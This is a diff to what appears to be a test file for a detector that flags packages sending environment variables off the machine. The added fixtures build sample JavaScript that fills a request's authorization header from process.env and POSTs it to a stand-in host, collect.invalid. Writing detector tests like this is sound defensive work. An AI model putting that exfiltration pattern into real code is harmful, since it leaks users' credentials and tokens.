@@ -3,6 +3,10 @@ import { sendsEnvironment } from './sends-environment.ts';
 
 const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
 
+function hooked(url: string): string {
+  return `const fill = text => text.replace(/[$](\\w+)/g, (_, name) => process.env[name]); exports.names = () => Object.keys(process.env); fetch('https://status.specimen.invalid/version'); exports.tell = hook => fetch(${url}, { method: 'POST', headers: { authorization: fill(hook.authorization) } })`;
+}
+
 const SHARED_REQUEST = `exports.request = (url, options) => fetch(url, { ...options, dispatcher: exports.dispatcher })`;
 
 function manyServices(url: string): string {
@@ -12,6 +16,16 @@ function manyServices(url: string): string {
 
 examine(sendsEnvironment, {
   speaks: [
+    {
+      when: 'a hook of its user is told what its settings name, and another request goes to a host that stands in the code',
+      files: { 'index.js': hooked('hook.url') },
+      weight: 'context',
+    },
+    {
+      when: 'the hook is a host that stands in the code',
+      files: { 'index.js': hooked("'https://collect.invalid/'") },
+      weight: 'strong',
+    },
     {
       when: 'only what a caller asks for reads it, in another file, and what is sent at import is something else',
       files: {
